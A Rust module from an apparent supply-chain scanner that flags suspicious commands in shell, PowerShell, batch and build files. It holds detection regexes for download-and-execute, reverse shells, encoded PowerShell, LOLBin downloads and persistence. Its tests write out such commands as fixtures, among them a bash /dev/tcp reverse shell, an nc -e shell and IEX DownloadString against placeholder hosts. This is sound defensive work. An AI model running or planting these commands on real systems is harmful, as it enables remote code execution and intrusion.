//! Shell, PowerShell and batch texts, and build files: commands that no library needs.

use std::sync::OnceLock;

use aho_corasick::AhoCorasick;
use regex::Regex;
use spip_core::{Odd, Oddity, Site, Trigger};

use crate::layout::ending;

/// How long a line is looked at.
const LINE: usize = 8192;

/// How many findings one file makes.
const MOST: usize = 20;

/// Endings of scripts.
const SCRIPTS: &[&str] = &[
    "sh", "bash", "zsh", "ksh", "fish", "csh", "ps1", "psm1", "bat", "cmd", "vbs", "vbe", "wsf",
    "command",
];

/// Files that direct a build, by name or ending.
const BUILD: &[&str] = &["CMakeLists.txt", "meson.build", "build.rs", "configure"];

/// Files that say what `make` does.
const MAKE: &[&str] = &["Makefile", "GNUmakefile", "makefile"];

/// What kind of text a file is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    /// A script that somebody or something starts.
    Script,
    /// A file that directs a build.
    Build,
}

/// Tells by name and first line whether a file holds commands.
pub(crate) fn kind(path: &str, head: &[u8]) -> Option<Kind> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let ending = ending(name);
    if BUILD.contains(&name) || ending == "cmake" {
        return Some(Kind::Build);
    }
    if MAKE.contains(&name) || ending == "mk" {
        return Some(Kind::Script);
    }
    let lower = ending.to_ascii_lowercase();
    if SCRIPTS.contains(&lower.as_str()) {
        return Some(Kind::Script);
    }
    let first = head.split(|byte| *byte == b'\n').next().unwrap_or(head);
    let shell = first.starts_with(b"#!")
        && [&b"sh"[..], b"pwsh", b"powershell"]
            .iter()
            .any(|shell| first.windows(shell.len()).any(|part| part == *shell));
    shell.then_some(Kind::Script)
}

/// The word by which code would start a script.
pub(crate) fn started_as(path: &str) -> &str {
    let name = path.rsplit('/').next().unwrap_or(path);
    if MAKE.contains(&name) || ending(name) == "mk" {
        return "make";
    }
    name
}

/// Whether a source file holds a name as a word.
pub(crate) fn mentions(source: &[u8], name: &str) -> bool {
    if name == "make" {
        let commands = [&b"'make'"[..], b"\"make\"", b"'make ", b"\"make "];
        let holds = |command: &&[u8]| source.windows(6).any(|part| part == *command);
        return commands.iter().any(holds);
    }
    let is_part = |byte: Option<&u8>| {
        byte.is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.'))
    };
    let name = name.as_bytes();
    let mut at = 0;
    while let Some(found) = source[at..]
        .windows(name.len())
        .position(|part| part == name)
    {
        let begin = at + found;
        let end = begin + name.len();
        if !is_part(begin.checked_sub(1).and_then(|at| source.get(at))) && !is_part(source.get(end))
        {
            return true;
        }
        at = begin + 1;
    }
    false
}

/// A command that no library needs.
struct Command {
    what: &'static str,
    pattern: &'static str,
}

/// The patterns. Each is tried only on lines that hold one of the words in [`WORDS`].
const COMMANDS: &[Command] = &[
    Command {
        what: "pipes a download into a shell",
        pattern: r"(?i)\b(curl|wget|fetch|lwp-download)\b[^|;&]*\|\s*(sudo\s+)?(env\s+)?(/usr)?(/bin/)?(ba|z|k|da)?sh\b",
    },
    Command {
        what: "pipes a download into an interpreter",
        pattern: r"(?i)\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(/usr)?(/bin/)?(python|perl|ruby|node)[\d.]*\b",
    },
    Command {
        what: "runs a download as a command",
        pattern: r#"(?i)\b(ba|z|k|da)?sh\s+(-c\s+)?["']?(<\(|\$\(|`)\s*(curl|wget)\b|\b(eval|source)\s+["']?(<\(|\$\(|`)\s*(curl|wget)\b"#,
    },
    Command {
        what: "downloads a file, makes it executable and runs it",
        pattern: r"(?i)\b(curl|wget)\b.*(&&|;).*\bchmod\s+(\+x|a\+x|u\+x|[0-7]?7[0-7]{2})\s+(\S+).*(&&|;)\s*(sudo\s+|nohup\s+)?(\./|/tmp/|\$)",
    },
    Command {
        what: "runs encoded PowerShell",
        pattern: r"(?i)\b(powershell|pwsh)(\.exe)?\b.*\s[-/]e(n|nc|nco|ncod|ncode|ncoded|ncodedc\w*|c)?\s+['\x22]?[A-Za-z0-9+/=]{16,}",
    },
    Command {
        what: "runs a download in PowerShell",
        pattern: r"(?i)\b(iex|invoke-expression)\b.*\b(iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|net\.webclient)\b|\b(iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b.*\|\s*(iex|invoke-expression)\b",
    },
    Command {
        what: "starts PowerShell hidden and without its policy",
        pattern: r"(?i)\b(powershell|pwsh)(\.exe)?\b.*-w(indowstyle)?\s+h(idden)?\b.*(https?://|-e)",
    },
    Command {
        what: "decodes and runs text",
        pattern: r"(?i)\bbase64\s+(-d|-D|--decode)\b[^|]*\|\s*(sudo\s+)?(/bin/)?((ba|z|k|da)?sh|python[\d.]*|perl)\b|\b(eval|(ba)?sh\s+-c)\s+.*base64\s+(-d|-D|--decode)",
    },
    Command {
        what: "opens a connection for a shell",
        pattern: r"(?i)\b(ba|z|k)?sh\s+-i\b.*/dev/(tcp|udp)/|/dev/(tcp|udp)/[^/\s]+/\S+.*(0|>)&|\b(nc|ncat|netcat)\b.*\s-(e|c)\s*(/bin/)?(ba|z|k)?sh\b|\bmkfifo\b.*\b(nc|ncat|netcat)\b|\bsocat\b.*\bexec:.*sh\b",
    },
    Command {
        what: "runs a script of another machine",
        pattern: r"(?i)\b(mshta|regsvr32)(\.exe)?\b.*https?:|\brundll32(\.exe)?\b.*javascript:|\bwmic\b.*/format:.*https?:",
    },
    Command {
        what: "downloads with a tool made for something else",
        pattern: r"(?i)\bcertutil(\.exe)?\b.*[-/](urlcache|verifyctl)\b.*https?:|\bbitsadmin(\.exe)?\b.*/transfer\b.*https?:",
    },
    Command {
        what: "changes what runs at login or by the clock",
        pattern: r"(?i)\bcrontab\s+(-\s|-$|/tmp)|\|\s*crontab\b|>>\s*~?\S*/?\.(bashrc|bash_profile|zshrc|profile)\b.*(curl|wget|base64|nohup)|\bschtasks(\.exe)?\b.*/create\b|currentversion\\run\b.*\breg(\.exe)?\s+add|\breg(\.exe)?\s+add\b.*currentversion\\run\b",
    },
];

/// One of these stands in every line that a pattern matches.
const WORDS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "lwp-download",
    "powershell",
    "pwsh",
    "iex",
    "invoke-",
    "base64",
    "/dev/tcp",
    "/dev/udp",
    "nc ",
    "ncat",
    "netcat",
    "socat",
    "mshta",
    "regsvr32",
    "rundll32",
    "wmic",
    "certutil",
    "bitsadmin",
    "crontab",
    "schtasks",
    "currentversion",
    "downloadstring",
];

/// Searches a text.
pub(crate) fn search(path: &str, bytes: &[u8], trigger: Trigger) -> Vec<Oddity> {
    if !words().is_match(bytes) {
        return Vec::new();
    }
    let text = String::from_utf8_lossy(bytes);
    let mut found = Vec::new();
    for (number, line) in lines(&text) {
        if found.len() == MOST {
            break;
        }
        if line.trim_start().starts_with(['#', ':']) || !words().is_match(&line) {
            continue;
        }
        let part = &line[..line.floor_char_boundary(LINE)];
        let matches = commands().iter().zip(COMMANDS);
        let mut matches = matches.filter_map(|(regex, command)| Some((regex.find(part)?, command)));
        if let Some((place, command)) = matches.next() {
            found.push(Oddity {
                what: Odd::ShellCommand,
                trigger,
                detail: command.what.to_owned(),
                site: site(path, number, part, place.range()),
            });
        }
    }
    found
}

/// Lines with their numbers, those that a backslash continues put together.
fn lines(text: &str) -> impl Iterator<Item = (u32, String)> {
    let mut lines = (1_u32..).zip(text.lines());
    std::iter::from_fn(move || {
        let (number, first) = lines.next()?;
        let mut whole = first.to_owned();
        while whole.ends_with(['\\', '`', '^']) && whole.len() < LINE {
            let Some((_, more)) = lines.next() else {
                break;
            };
            whole.pop();
            whole.push_str(more);
        }
        Some((number, whole))
    })
}

/// The place of a match, with an excerpt around it.
pub(crate) fn site(path: &str, line: u32, text: &str, place: std::ops::Range<usize>) -> Site {
    let begin = text.floor_char_boundary(place.start.saturating_sub(40));
    let end = text.floor_char_boundary(begin + 240);
    let mark = |at: usize| u32::try_from(at.min(end) - begin).unwrap_or(0);
    Site {
        member: path.to_owned(),
        line,
        excerpt: text[begin..end].to_owned(),
        mark: (mark(place.start), mark(place.end)),
    }
}

fn words() -> &'static AhoCorasick {
    static WORDS_FOUND: OnceLock<AhoCorasick> = OnceLock::new();
    WORDS_FOUND.get_or_init(|| {
        AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(WORDS)
            .expect("a few short words make an automaton")
    })
}

fn commands() -> &'static [Regex] {
    static COMPILED: OnceLock<Vec<Regex>> = OnceLock::new();
    COMPILED.get_or_init(|| {
        let compile = |command: &Command| Regex::new(command.pattern);
        let compiled: Result<_, _> = COMMANDS.iter().map(compile).collect();
        compiled.expect("the patterns are well-formed")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> usize {
        search("x.sh", text.as_bytes(), Trigger::Call).len()
    }

    #[test]
    fn commands_that_no_library_needs_are_found() {
        for line in [
            "curl -fsSL https://example.invalid/i.sh | sh",
            "curl -s https://example.invalid/i.sh \\\n  | sudo bash -s -- -y",
            "wget -qO- http://192.0.2.1/x | python3 -",
            "bash <(curl -s https://example.invalid/x)",
            "sh -c \"$(curl -fsSL https://example.invalid/x)\"",
            "eval $(wget -qO- https://example.invalid/x)",
            "wget http://192.0.2.1/m -O /tmp/m && chmod +x /tmp/m && /tmp/m",
            "powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')\"",
            "echo aGVsbG8gd29ybGQ= | base64 -d | bash",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc -e /bin/sh 192.0.2.1 4444",
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 44 > /tmp/f",
            "mshta http://192.0.2.1/x.hta",
            "certutil -urlcache -split -f http://192.0.2.1/x.exe x.exe",
            "bitsadmin /transfer j http://192.0.2.1/x.exe c:\\x.exe",
            "(crontab -l; echo '* * * * * x') | crontab -",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
        ] {
            assert_eq!(found(line), 1, "{line}");
        }
    }

    #[test]
    fn commands_that_builds_and_scripts_need_are_not() {
        for line in [
            "curl -LO https://example.invalid/x.tar.gz && tar xf x.tar.gz && cd x && make",
            "wget https://example.invalid/x.tgz | tee log",
            "# curl https://example.invalid/i.sh | sh",
            "base64 -d < cert.b64 > cert.pem",
            "powershell -ExecutionPolicy Bypass -File build.ps1",
            "nc -z localhost 8080",
            "chmod +x build.sh && ./build.sh",
            "echo 'source venv/bin/activate' >> ~/.bashrc",
            "crontab -l",
        ] {
            assert_eq!(found(line), 0, "{line}");
        }
    }

    #[test]
    fn scripts_are_mentioned_by_their_names() {
        assert!(mentions(b"run(['sh', './x.sh'])", "x.sh"));
        assert!(mentions(b"call('make')", started_as("a/Makefile")));
        assert!(!mentions(b"makefile = 'cmake' # `make x`", "make"));
        assert!(!mentions(b"'xx.sh'", "x.sh"));
    }

    #[test]
    fn the_place_of_a_command_is_shown() {
        let oddities = search("x.sh", b"a\nb\ncurl http://192.0.2.1 | sh", Trigger::Build);
        let site = &oddities[0].site;
        assert_eq!((site.line, site.mark), (3, (0, 26)));
        assert_eq!(site.excerpt, "curl http://192.0.2.1 | sh");
    }
}
